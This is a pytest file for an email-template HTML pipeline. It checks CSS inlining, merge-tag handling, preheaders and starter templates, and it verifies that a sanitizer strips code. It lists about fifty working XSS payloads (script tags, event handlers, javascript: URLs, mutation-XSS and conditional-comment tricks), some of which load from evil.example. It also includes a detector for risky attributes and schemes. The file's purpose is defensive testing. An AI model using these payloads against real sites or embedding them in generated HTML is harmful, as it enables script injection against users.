"""From an author's HTML to a mail's: styles inline, merge tags whole, no code, and the starters pass all of it."""

import json
from pathlib import Path

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.email_templates.html import UnreadableHtmlError, prepare_html, with_open_pixel, with_preheader
from core.email_templates.inspection import inspect_mail
from core.email_templates.links import rewrite_links
from core.email_templates.merge_tags import Escape, KnownKeys, parse
from core.email_templates.mjml import compile_mjml
from core.email_templates.preview import MailSource, preview_mail
from core.email_templates.sanitizing import ALLOWED_ELEMENTS, DROPPED_WITH_CONTENT, without_code
from core.email_templates.text import html_to_text

STARTERS = Path(__file__).parents[2] / "fixtures" / "starter_templates"
EVERY_ELEMENT = (
    (ALLOWED_ELEMENTS | DROPPED_WITH_CONTENT | {"embed", "form", "input", "link", "base", "img", "marquee", "keygen"})
    | {
        "foreignobject",
        "animate",
        "set",
        "use",
        "a",
        "option",
        "isindex",
        "frame",
        "portal",
        "source",
        "track",
        "image",
    }
) - {"html", "head", "body"}


def markup_seen_by_html5ever(document: str) -> tuple[set[str], list[tuple[str, str, str]]]:
    """Elements and attributes that a browser-grade parser, independent of ours, finds in a document."""
    attributes: list[tuple[str, str, str]] = []
    names = sorted(EVERY_ELEMENT)
    handlers = {"onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onstart", "onbegin", "srcdoc"}
    risky = handlers | {"href", "src", "action", "formaction", "xlink:href", "background", "style", "data"}
    cleaned = nh3.clean(
        document,
        tags=set(names),
        clean_content_tags=set(),
        attributes=dict.fromkeys(names, risky),
        attribute_filter=lambda element, name, value: attributes.append((element, name, value)) or value,
        url_schemes={"http", "https", "mailto", "javascript", "vbscript", "data", "cid"},
        link_rel=None,
    )
    elements = {name for name in names if f"<{name}" in cleaned}
    return elements, attributes


def assert_harmless(document: str) -> None:
    _, attributes = markup_seen_by_html5ever(document)
    for _element, name, value in attributes:
        compact = "".join(value.split()).lower()
        assert not name.startswith("on") and name not in ("srcdoc", "action", "formaction", "data")
        assert not compact.startswith(("javascript:", "vbscript:", "data:text", "data:image/svg"))
        assert "expression(" not in compact
    cleaned_of_code = nh3.clean(document, tags=EVERY_ELEMENT, clean_content_tags=set(), attributes={})
    for element in DROPPED_WITH_CONTENT | {"embed", "form", "input", "link", "base"}:
        assert f"<{element}>" not in cleaned_of_code


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr\n=\n'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" title="`"onerror=alert(1)//">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><style></svg><img src=x onerror=alert(1)></style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='  JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#9;script&colon;alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button><input onfocus=a></form>",
    "<base href='javascript:/a/+'><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<body onload=alert(1)><p>x",
    "<html onclick=alert(1)><p>x",
    "<details open ontoggle=alert(1)>x</details>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='width:e\\78 pression(alert(1))'>x</p>",
    "<p style='width:exp/**/ression(alert(1))'>x</p>",
    "<p style=\"background:url('java\\\nscript:alert(1)')\">x</p>",
    "<style>p { behavior: url(x.htc) }</style><p>x",
    "<style>a{background:url(javascript:alert(1))}</style>",
    "<style></style><img src=x onerror=alert(1)><style></style>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<select><iframe></select><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)><title>",
    "<!--[if mso]><script>alert(1)</script><img src=x onerror=alert(1)><![endif]-->",
    "<!--[if mso]><<foo>script>alert(1)<<foo>/script><![endif]-->",
    "<!--[if mso]>--<foo>><img src=x onerror=alert(1)><![endif]-->",
    "<!--[if mso]><a title='--'>&gt;<img src=x onerror=alert(1)><![endif]-->",
    "<!--[if mso]><style>--</style>><img src=x onerror=alert(1)><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if mso]><!--><img src=x onerror=alert(1)><!--<![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href='{{ x }}' onclick='{{ y }}'>x</a>",
    "<a {{ x }} href='{{ \"javascript\" }}:alert(1)'>x</a>",
    "\x00<scr\x00ipt>alert(1)</script>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_prepare_attack_leaves_no_code(attack: str) -> None:
    prepared = prepare_html(attack)
    assert_harmless(prepared)
    assert_harmless(prepared.replace("<!--[if mso]>", "").replace("<![endif]-->", ""))
    assert without_code(prepared) == prepared


@given(pieces=st.lists(st.sampled_from([*ATTACKS, "'", '"', ">", "<", "-->", "<!--", "</p>", "<table>"]), max_size=6))
def test_prepare_attacks_joined_leave_no_code(pieces: list[str]) -> None:
    prepared = prepare_html("".join(pieces))
    assert_harmless(prepared)


def test_assert_harmless_sees_what_it_must() -> None:
    for source in ("<img src=x onerror=a>", "<a href='javascript:x'>y</a>", "<script>x</script>", "<iframe></iframe>"):
        with pytest.raises(AssertionError):
            assert_harmless(source)


LAYOUT = """<!DOCTYPE html><html lang="de" xmlns:v="urn:schemas-microsoft-com:vml"><head><meta charset="utf-8">
<meta name="viewport" content="width=device-width"><title>Title</title>
<!--[if mso]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]-->
<style>p { color: red } @media (max-width: 600px) { p { color: blue !important } } a:hover { color: green }</style>
</head><body class="b" bgcolor="#fff"><!-- a note --><!--[if mso]><table><tr><td width="300"><![endif]-->
<table role="presentation" cellpadding="0" align="center" background="https://a.example/b.png"><tr>
<td valign="top" nowrap>
<p class="x" data-id="1">Hi</p><img src="cid:logo" alt="Logo" width="10"><a href="tel:+49123">Call</a></td></tr></table>
<!--[if !mso]><!--><div>others</div><!--<![endif]--></body></html>"""


@pytest.mark.parametrize(
    "kept",
    [
        "<!DOCTYPE html>",
        '<html lang="de" xmlns:v="urn:schemas-microsoft-com:vml">',
        '<meta name="viewport" content="width=device-width">',
        "<!--[if mso]><xml><o:OfficeDocumentSettings><o:AllowPNG /></o:OfficeDocumentSettings></xml><![endif]-->",
        '<!--[if mso]><table><tr><td width="300"><![endif]-->',
        "<!--[if !mso]><!--><div>others</div><!--<![endif]-->",
        "@media (max-width: 600px)",
        "a:hover",
        '<body class="b" bgcolor="#fff">',
        'background="https://a.example/b.png"',
        '<p class="x" data-id="1" style="color: red;">Hi</p>',
        '<img src="cid:logo" alt="Logo" width="10">',
        '<a href="tel:+49123">',
        '<td valign="top" nowrap',
    ],
)
def test_prepare_layout_keeps_what_a_mail_needs(kept: str) -> None:
    assert kept in prepare_html(LAYOUT)


def test_prepare_ordinary_comment_goes() -> None:
    assert "a note" not in prepare_html(LAYOUT)


def test_prepare_linked_style_is_not_read_from_disk(tmp_path: Path) -> None:
    sheet = tmp_path / "secret.css"
    sheet.write_text("p { color: rgb(1, 2, 3) }")
    for address in (str(sheet), sheet.as_uri()):
        prepared = prepare_html(f'<link rel="stylesheet" href="{address}"><style>@import "{address}";</style><p>x</p>')
        assert "rgb" not in prepared


TAGS = [
    "{{ contact.first_name }}",
    "{{contact.first_name|default:'there'}}",
    '{{ contact.first_name | default: "a b & c" }}',
    "{{ contact.attributes.größe }}",
]


@pytest.mark.parametrize("tag", TAGS)
@pytest.mark.parametrize(
    "source",
    ["<p>%s</p>", '<p title="%s">x</p>', '<a href="%s">x</a>', '<a href="https://a.example/?q=%s&amp;b=1">x</a>'],
)
def test_prepare_merge_tag_stays_byte_for_byte(source: str, tag: str) -> None:
    prepared = prepare_html("<style>p,a{color:red}</style>" + source.replace("%s", tag))
    assert tag in prepared
    assert len(parse(prepared, context=Escape.HTML, allowed=KnownKeys()).keys) == 1


def test_prepare_too_deep_nesting_is_refused() -> None:
    with pytest.raises(UnreadableHtmlError, match="nests more than 200"):
        prepare_html("<div>" * 20_000)
    assert prepare_html("<p>" * 5_000 + "<table><tr><td>" * 30)


def test_prepare_unreadable_style_names_line_and_style() -> None:
    with pytest.raises(UnreadableHtmlError, match='Line 3: style="color red"'):
        prepare_html('<style>p{top:0}</style>\n<p style="color:red">a\n<p style="color red">b')


def test_prepare_too_long_source_is_refused() -> None:
    with pytest.raises(UnreadableHtmlError, match="500,000"):
        prepare_html("a" * 500_001)


def test_prepare_same_source_gives_the_same_mail() -> None:
    assert prepare_html(LAYOUT) == prepare_html(LAYOUT)


def test_with_preheader_is_first_in_the_body_and_escaped() -> None:
    document = with_preheader(
        '<html><body class="a">x</body></html>', 'For {{ contact.first_name | default: "you" }} <3'
    )
    assert document.startswith('<html><body class="a"><div style="display:none')
    assert '{{ contact.first_name | default: "you" }} &lt;3' in document
    assert with_preheader("<body>x</body>", "  ") == "<body>x</body>"


def test_with_open_pixel_is_last_in_the_body() -> None:
    document = with_open_pixel("<body>x</body></html>", "{{ system.open_pixel_url }}")
    assert document.startswith('<body>x<img src="{{ system.open_pixel_url }}"')
    assert document.endswith("></body></html>")
    assert with_open_pixel("x", "{{ system.open_pixel_url }}").startswith("x<img")


@pytest.mark.parametrize("starter", json.loads((STARTERS / "index.json").read_text()), ids=lambda entry: entry["slug"])
def test_starter_template_passes_the_whole_path(starter: dict[str, str]) -> None:
    prepared = with_preheader(
        prepare_html(compile_mjml((STARTERS / starter["html"]).read_text())), starter["preheader"]
    )
    rewritten, targets = rewrite_links(prepared, replacement=lambda number, url: f"{{{{ link.{number} }}}}")
    template = parse(rewritten, context=Escape.HTML, allowed=KnownKeys(attributes=frozenset(), internal=True))
    parse(starter["subject"], context=Escape.HEADER, allowed=KnownKeys(attributes=frozenset()))
    text = parse(html_to_text(prepared), context=Escape.TEXT, allowed=KnownKeys(attributes=frozenset()))
    assert targets
    for part in (template, text):
        assert {"organization.postal_address", "system.unsubscribe_url"} <= part.keys
        assert "contact.email" in part.keys
    for needed in ("prefers-color-scheme: dark", "max-width: 480px", "<!--[if mso", 'lang="en"'):
        assert needed in prepared
    assert len(rewritten.encode()) < 102_000, "Gmail clips what is longer"


@pytest.mark.parametrize("brace", ["&#123;", "&#x7B;", "&#0123", "&lbrace;", "&lcub;"])
def test_brace_as_a_character_reference_begins_no_merge_tag(brace: str) -> None:
    html = (
        f'<p title="{brace}{brace} a }}}}">Write {brace}{brace} name }}}}, {brace}% if %}}, '
        f'{brace}{{{{ contact.email }}}}</p><img src="https://x.example/a.png" alt="{brace}{brace} a }}}}">'
        f'<a href="https://x.example/?{brace}{brace}">x</a>'
    )
    assert inspect_mail(MailSource("Hi", "", html)).errors == ()
    mail = preview_mail(MailSource("Hi", "", html), {"contact.email": "ann@people.example"})
    assert "Write &#123;&#123; name }}, &#123;% if %}, &#123;ann@people.example" in mail.html
    assert "Write { { name }}, { % if %}, { ann@people.example" in mail.text
    assert "[{ { a }}] x (https://x.example/?%7B%7B)" in mail.text
